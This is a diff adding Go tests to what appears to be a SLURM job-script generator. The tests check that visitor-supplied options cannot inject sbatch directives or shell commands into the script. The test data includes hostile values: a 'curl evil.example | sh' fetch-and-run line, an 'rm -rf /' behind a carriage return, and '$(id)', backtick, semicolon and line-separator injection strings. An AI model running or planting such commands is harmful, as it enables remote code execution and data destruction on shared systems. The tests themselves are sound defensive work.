@@ -179,6 +179,68 @@ func TestClusterSpeaksToSLURM(t *testing.T) {
 	}
 }
 
+// TestVisitorsAsks: what runs with the rights of the server's user is the operator's to say.
+func TestVisitorsAsks(t *testing.T) {
+	c := New(t.TempDir(), Options{Lines: []string{"--nice"}, Setup: []string{"module load cuda"}})
+	for asks, want := range map[string]string{
+		"partition=gpu\ntime=1:00": "", "": "", "gpus=\n": "",
+		"line=--wrap=id": "line", "partition=gpu\n line=--nice": "line", "line=": "line", "line": "line",
+		"setup=curl evil.example | sh": "setup", "setup=": "setup",
+	} {
+		err := c.Check(asks, false)
+		var bad model.Invalid
+		if errors.As(err, &bad); want == "" && err != nil || want != "" && !strings.Contains(bad[want], "--allow-slurm-lines") {
+			t.Errorf("%q: %v", asks, err)
+		}
+		if want == "" || asks == "line" {
+			continue
+		}
+		if err := c.Check(asks, true); err != nil {
+			t.Errorf("%q where lines are allowed: %v", asks, err)
+		}
+	}
+}
+
+func TestSetLines(t *testing.T) {
+	var o Options
+	err := o.SetLines("# our cluster\n\npartition=gpu\nline=--constraint=h100\nsetup=module load cuda # 12\n")
+	if want := (Options{Partition: "gpu", Lines: []string{"--constraint=h100"}, Setup: []string{"module load cuda # 12"}}); err != nil || !reflect.DeepEqual(o, want) {
+		t.Errorf("%+v, %v", o, err)
+	}
+	if err := o.SetLines("partition=gpu\nmodule load cuda\n"); err == nil || !strings.HasPrefix(err.Error(), "line 2: ") {
+		t.Errorf("%v", err)
+	}
+}
+
+// FuzzScript: whatever options are asked for, the lines of the script before the run are directives, or the operator's setup.
+func FuzzScript(f *testing.F) {
+	for _, asks := range []string{"partition=gpu", "line=--constraint=h100", "line=-p gpu", "line=--x\rrm -rf /", "line=nice", "account=$(id)", "gpus=1;id", "line=--comment=a # b", "line=-", "line=--",
+		"line=--x\nid", "time=1\u2028id", "mem=\x0bid", "partition=`id`"} {
+		f.Add(asks)
+	}
+	const setup = "module load cuda"
+	f.Fuzz(func(t *testing.T, asks string) {
+		if strings.Contains(asks, "setup") {
+			return // the operator's
+		}
+		o, err := Options{Setup: []string{setup}}.With(asks)
+		if err != nil {
+			return
+		}
+		script := o.script("/bin/slotscope", "/data/slurm", []string{"/data/runs/a"})
+		head, rest, _ := strings.Cut(script, "runs=(\n")
+		if rest != "  '/data/runs/a'\n)\nexec '/bin/slotscope' job \"${runs[${SLURM_ARRAY_TASK_ID:-0}]}\"\n" {
+			t.Errorf("%q ends the script with %q", asks, rest)
+		}
+		for i, line := range strings.Split(strings.TrimSuffix(head, "\n"), "\n") {
+			if i == 0 && line == "#!/bin/bash" || line == setup || strings.HasPrefix(line, "#SBATCH -") && !strings.ContainsAny(line, "\r\v\f") {
+				continue
+			}
+			t.Errorf("%q puts the line %q into the script", asks, line)
+		}
+	})
+}
+
 func TestRefusalIsASentence(t *testing.T) {
 	stubs(t, "echo 'slurm_load_jobs error:' >&2; echo 'Unable to contact slurm controller' >&2; exit 1")
 	_, err := New(t.TempDir(), Options{}).Tasks(t.Context(), []string{"1"})
